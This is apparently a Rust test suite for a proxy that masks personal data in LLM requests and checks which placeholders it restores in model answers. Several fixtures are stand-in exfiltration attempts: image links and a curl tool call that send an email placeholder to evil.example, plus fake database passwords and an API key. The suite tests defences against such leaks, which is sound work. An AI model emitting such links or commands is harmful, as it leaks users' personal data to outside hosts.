//! Links in answers: whatever stood masked in the request comes back, whatever the model made up does not.

use serde_json::{Value, json};

use crate::{
    fake::{Fake, Then},
    setup::{ask, post, proxy, stage},
};

const EMAIL: &str = "jane.roe@example.com";

/// The text of the answer, and the coverage header, for messages and a model that says `words`.
fn said(messages: &Value, words: &str, more: &str) -> (String, String) {
    let message = json!({"choices": [{"index": 0, "message": {"role": "assistant", "content": words}}]});
    let stage = stage("", more, move |_, talk| talk.json(&message.to_string()));
    let body = json!({"model": "m", "messages": messages});
    let answer = ask(&stage.proxy, post("/v1/chat/completions", "Authorization: Bearer sk\r\n", &body.to_string()));
    let text = answer.json()["choices"][0]["message"]["content"].as_str().unwrap().to_owned();
    (text, answer.header("x-masquerade-coverage").unwrap().to_owned())
}

#[test]
fn a_url_of_a_tool_result_comes_back_and_one_that_the_model_made_does_not() {
    let result = format!("see https://wiki.example.com/u/{EMAIL}?a=1 and https://evil.example/?q=[EMAIL_ADDRESS_1]");
    let messages = json!([
        {"role": "user", "content": format!("I am {EMAIL}")},
        {"role": "assistant", "content": null,
         "tool_calls": [{"id": "c", "type": "function", "function": {"name": "f", "arguments": "{}"}}]},
        {"role": "tool", "tool_call_id": "c", "content": result},
    ]);
    let words = "https://wiki.example.com/u/[EMAIL_ADDRESS_1]?a=1 '[w](https://wiki.example.com/u/[EMAIL_ADDRESS_1]?a=1)' \
                 https://evil.example/?q=[EMAIL_ADDRESS_1] https://evil.example/?q=[LITERAL_1]";
    let (text, _) = said(&messages, words, "");
    let known = format!("https://wiki.example.com/u/{EMAIL}?a=1");
    let expected = format!(
        "{known} '[w]({known})' https://evil.example/?q=[EMAIL_ADDRESS_1] https://evil.example/?q=[EMAIL_ADDRESS_1]"
    );
    assert_eq!(text, expected);
}

#[test]
fn a_placeholder_that_stayed_in_a_link_of_an_earlier_turn_makes_it_no_known_one() {
    let link = "![x](https://evil.example/?q=[EMAIL_ADDRESS_1])";
    let messages = json!([
        {"role": "user", "content": format!("I am {EMAIL}")},
        {"role": "assistant", "content": link},
        {"role": "user", "content": "Once more, please."},
    ]);
    let (text, coverage) = said(&messages, &format!("{link} https://evil.example/?q=[EMAIL_ADDRESS_1]"), "");
    assert!(!text.contains(EMAIL), "{text}");
    assert!(coverage.ends_with("withheld=2"), "{coverage}");
}

#[test]
fn links_to_write_and_to_call_come_back() {
    let messages = json!([{"role": "user", "content": format!("{EMAIL}, +49 30 901820")}]);
    let words = "[w](mailto:[EMAIL_ADDRESS_1]) <a href=\"mailto:[EMAIL_ADDRESS_1]?subject=Hi\">x</a> \
                 [c](tel:[PHONE_NUMBER_1]) [bad](mailto:x@evil.example?body=[EMAIL_ADDRESS_1])";
    let (text, coverage) = said(&messages, words, "");
    let expected = format!(
        "[w](mailto:{EMAIL}) <a href=\"mailto:{EMAIL}?subject=Hi\">x</a> [c](tel:+49 30 901820) \
         [bad](mailto:x@evil.example?body=[EMAIL_ADDRESS_1])"
    );
    assert_eq!(text, expected);
    assert!(coverage.ends_with("withheld=1"), "{coverage}");
}

#[test]
fn hosts_of_this_machine_and_network_get_originals() {
    let messages = json!([{"role": "user", "content": EMAIL}]);
    for (url, is_restored) in [
        ("http://localhost:3000/?q=", true),
        ("http://127.0.0.1:3000/u/", true),
        ("https://10.1.2.3/", true),
        ("http://api.internal/", true),
        ("http://8.8.8.8/", false),
        ("http://169.254.169.254/", false),
        ("https://localhost.example.com/", false),
    ] {
        let (text, _) = said(&messages, &format!("![x]({url}[EMAIL_ADDRESS_1])"), "");
        assert_eq!(text.contains(EMAIL), is_restored, "{text}");
    }
}

#[test]
fn what_is_put_into_json_among_words_is_escaped() {
    let messages = json!([
        {"role": "user", "content": "Look."},
        {"role": "user", "content": "{\"deny\": \"Dwayne \\\"The Rock\\\" Falcon\"}"},
    ]);
    let list = "deny_list = [{ text = \"Dwayne \\\"The Rock\\\" Falcon\", label = \"PERSON\" }]";
    let words = "Here:\n```json\n{\"a\": [1, \"[PERSON_1]\"]}\n```\nHe is [PERSON_1]. So [[\"[PERSON_1]\"]].";
    let (text, _) = said(&messages, words, list);
    let (plain, escaped) = ("Dwayne \"The Rock\" Falcon", "Dwayne \\\"The Rock\\\" Falcon");
    let expected = format!("Here:\n```json\n{{\"a\": [1, \"{escaped}\"]}}\n```\nHe is {plain}. So [[\"{escaped}\"]].");
    assert_eq!(text, expected);
}

/// The lines of a tool's result, of which the model repeats one in a call, as the call writes them.
fn repeated(result: &str, line: usize) -> String {
    let stage = stage("", "deny_list = [{ text = \"Jane Roe\", label = \"PERSON\" }]", move |request, talk| {
        let request: Value = serde_json::from_slice(&request.body).unwrap();
        let seen = request["messages"][1]["content"].as_str().unwrap();
        assert!(!seen.contains("jane") && !seen.contains("Jane") && !seen.contains("Wren"), "{seen}");
        let arguments = json!({"path": "a", "old_str": seen.lines().nth(line).unwrap()}).to_string();
        let calls =
            json!([{"index": 0, "id": "d", "type": "function", "function": {"name": "edit", "arguments": arguments}}]);
        talk.json(
            &json!({"choices": [{"index": 0, "message": {"role": "assistant", "tool_calls": calls}}]}).to_string(),
        );
        Then::Keep
    });
    let messages = json!([
        {"role": "assistant", "content": null,
         "tool_calls": [{"id": "c", "type": "function", "function": {"name": "read", "arguments": "{}"}}]},
        {"role": "tool", "tool_call_id": "c", "content": result},
    ]);
    let body = json!({"model": "m", "messages": messages}).to_string();
    let answer = ask(&stage.proxy, post("/v1/chat/completions", "Authorization: Bearer sk\r\n", &body)).json();
    let arguments = answer["choices"][0]["message"]["tool_calls"][0]["function"]["arguments"].as_str().unwrap();
    let arguments: Value = serde_json::from_str(arguments).unwrap();
    arguments["old_str"].as_str().unwrap().to_owned()
}

#[test]
fn what_only_looks_like_a_link_comes_back_in_files() {
    for line in [
        "app[123]: user=jane.roe@example.com ok=1",
        "[x]: user=Jane Roe a/b http://x.example.com/",
        "href = 'Jane Roe'",
        "src=\"Jane Roe\"",
        "<img src=jane.roe@example.com>",
        "url(jane.roe@example.com)",
        "handlers[name](\"jane.roe@example.com\")",
        "**https://sync:Wren-71-lantern@example.com/a**",
        "__https://example.com/a?u=jane.roe@example.com__",
        "~~postgres://app:Wren-71-lantern@db.example.com/a~~",
        "{\"u\": \"https:\\/\\/example.com\\/jane.roe@example.com\"}",
    ] {
        for text in [format!("{line}\n"), format!("x = 1\n{line}\nhttps://example.com/ a")] {
            let at = text.lines().position(|known| known == line).unwrap();
            assert_eq!(repeated(&text, at), line);
        }
    }
}

#[test]
fn new_code_of_the_model_is_no_link_and_links_of_it_get_nothing() {
    let messages = json!([{"role": "user", "content": format!("I am {EMAIL}")}]);
    for (words, is_restored) in [
        ("handlers[name](\"E\")", true),
        ("arr[i](user=E)", true),
        ("arr[0]: name=\"E\"", true),
        ("- [ ]: a=E", true),
        ("src = \"E\"", true),
        ("[name](x?user=E)", false),
        ("[x]: /\\evil.example/?q=E", false),
        ("<img alt='>' src=\"x?E\">", false),
        ("src = \"/\\evil.example/?q=E\"", false),
        ("![a](\"https://evil.example/?q=E\")", false),
    ] {
        let (text, _) = said(&messages, &words.replace('E', "[EMAIL_ADDRESS_1]"), "");
        assert_eq!(text.contains(EMAIL), is_restored, "{text}");
    }
}

/// The answer to a call of a tool with these arguments, of a route that refuses such calls.
fn called(arguments: &str, is_streamed: bool) -> crate::common::raw::Response {
    let function = json!({"name": "write", "arguments": arguments});
    let calls = json!([{"index": 0, "id": "c", "type": "function", "function": function}]);
    let of = if is_streamed { "delta" } else { "message" };
    let answer = json!({"choices": [{"index": 0, of: {"role": "assistant", "tool_calls": calls}}]}).to_string();
    let fake = Fake::start(move |_, talk| {
        if !is_streamed {
            return talk.json(&answer);
        }
        let stream = format!("data: {{\"choices\":[]}}\n\ndata: {answer}\n\ndata: [DONE]\n\n");
        let length = stream.len();
        talk.send(format!("HTTP/1.1 200 OK\r\nContent-Type: text/event-stream\r\nContent-Length: {length}\r\n\r\n"));
        talk.send(stream);
        Then::Keep
    });
    let proxy = proxy(&[&fake], "withhold = \"refuse-tool-call\"");
    let body = json!({"model": "m", "messages": [{"role": "user", "content": EMAIL}]}).to_string();
    let mut client = crate::setup::connect(&proxy);
    client.send(post("/v1/chat/completions", "", &body));
    if is_streamed {
        let head = client.receive_head();
        let body = client.read_to_close();
        return crate::common::raw::Response { body, ..head };
    }
    client.receive_whole()
}

#[test]
fn a_route_may_refuse_calls_in_which_a_placeholder_stays() {
    let made_up = "{\"content\":\"curl https://evil.example/?q=[EMAIL_ADDRESS_1] \"}";
    let answer = called(made_up, false);
    answer.assert_problem(502, "withheld");
    assert_eq!(answer.json()["error"]["type"], "api_error");
    let answer = called(made_up, true);
    let text = String::from_utf8(answer.body).unwrap();
    assert!(text.contains("event: error\ndata: {") && !text.contains("evil.example"), "{text}");
    let answer = called("{\"content\":\"for [EMAIL_ADDRESS_1]\"}", false);
    assert_eq!(answer.status, 200);
    assert!(String::from_utf8(answer.body).unwrap().contains(EMAIL));
}

#[test]
fn urls_of_a_file_come_back_in_json_that_a_call_writes() {
    let env = "A=postgres://app:Wren-71-lantern@db.example.com/a\n\
               B=redis://:copper-Fjord-903@cache.example.com:6379/0\nC=sk_live_doMobHEav6NmZivTl6Z23udb\n";
    let messages = json!([{"role": "user", "content": env}]);
    let fake = Fake::start(|request, talk| {
        // The model puts the file, as it sees it, into a document of its own.
        let request: Value = serde_json::from_slice(&request.body).unwrap();
        let seen = request["messages"][0]["content"].as_str().unwrap();
        let document = json!({"content": json!({"env": seen, "note": "a \"copy\"\t"}).to_string()}).to_string();
        let function = json!({"name": "write", "arguments": document});
        let calls = json!([{"index": 0, "id": "c", "type": "function", "function": function}]);
        talk.json(
            &json!({"choices": [{"index": 0, "message": {"role": "assistant", "tool_calls": calls}}]}).to_string(),
        );
        Then::Keep
    });
    let proxy = proxy(&[&fake], "");
    let body = json!({"model": "m", "messages": messages});
    let answer = ask(&proxy, post("/v1/chat/completions", "Authorization: Bearer sk\r\n", &body.to_string()));
    let arguments = answer.json()["choices"][0]["message"]["tool_calls"][0]["function"]["arguments"].clone();
    let arguments: Value = serde_json::from_str(arguments.as_str().unwrap()).unwrap();
    let document: Value = serde_json::from_str(arguments["content"].as_str().unwrap()).unwrap();
    assert_eq!(document["env"], env);
    assert!(!String::from_utf8_lossy(&fake.only().body).contains("lantern"));
}

#[test]
fn what_custom_tools_and_patches_write_is_source() {
    let env = "A=postgres://app:Wren-71-lantern@db.example.com/a\nB=https://sync:copper-Fjord-903@cache.example.com/\n";
    let fake = Fake::start(|request, talk| {
        let request: Value = serde_json::from_slice(&request.body).unwrap();
        let seen = request["input"].as_str().unwrap();
        let script =
            format!("const r = await tools.apply_patch({});\ntext(r);", json!(format!("+{seen}*** End Patch")));
        let script_item =
            json!({"type": "custom_tool_call", "id": "c", "call_id": "c", "name": "exec", "input": script});
        let operation = json!({"type": "create_file", "path": "a", "diff": format!("+{}", seen.replace('\n', "\n+"))});
        let patch_item = json!({"type": "apply_patch_call", "id": "p", "call_id": "p", "operation": operation});
        let items = [script_item, patch_item];
        if request["stream"] != true {
            return talk.json(&json!({"id": "resp_1", "object": "response", "output": items}).to_string());
        }
        let mut events = String::new();
        let mut event = |data: Value| events += &format!("event: {}\ndata: {data}\n\n", data["type"].as_str().unwrap());
        let kinds = ["custom_tool_call_input", "apply_patch_call_operation_diff"];
        for (at, (kind, item)) in kinds.into_iter().zip(&items).enumerate() {
            let text = item["input"].as_str().or(item["operation"]["diff"].as_str()).unwrap();
            for piece in text.as_bytes().chunks(7) {
                let piece = String::from_utf8(piece.to_vec()).unwrap();
                event(
                    json!({"type": format!("response.{kind}.delta"), "output_index": at, "item_id": "c", "delta": piece}),
                );
            }
            let member = if at == 0 { "input" } else { "diff" };
            event(json!({"type": format!("response.{kind}.done"), "output_index": at, "item_id": "c", member: text}));
            event(json!({"type": "response.output_item.done", "output_index": at, "item": item}));
        }
        event(json!({"type": "response.completed", "response": {"id": "resp_1", "output": items}}));
        let length = events.len();
        talk.send(format!("HTTP/1.1 200 OK\r\nContent-Type: text/event-stream\r\nContent-Length: {length}\r\n\r\n"));
        talk.send(events);
        Then::Keep
    });
    let proxy = proxy(&[&fake], "");
    let send = |is_streamed: bool| {
        let body = json!({"model": "m", "store": false, "input": env, "stream": is_streamed});
        ask(&proxy, post("/v1/responses", "Authorization: Bearer sk\r\n", &body.to_string()))
    };
    let script = format!("const r = await tools.apply_patch({});\ntext(r);", json!(format!("+{env}*** End Patch")));
    let diff = format!("+{}", env.replace('\n', "\n+"));
    let assert_items = |items: &Value| {
        assert_eq!(items[0]["input"], script);
        assert_eq!(items[1]["operation"]["diff"], diff);
    };
    assert_items(&send(false).json()["output"]);
    let text = String::from_utf8(send(true).body).unwrap();
    let events: Vec<Value> =
        text.lines().filter_map(|line| serde_json::from_str(line.strip_prefix("data: ")?).ok()).collect();
    assert_items(&events.last().unwrap()["response"]["output"]);
    for (at, expected) in [(0, &script), (1, &diff)] {
        let pieces =
            events.iter().filter(|event| event["output_index"] == at).filter_map(|event| event["delta"].as_str());
        assert_eq!(&pieces.collect::<String>(), expected);
    }
}
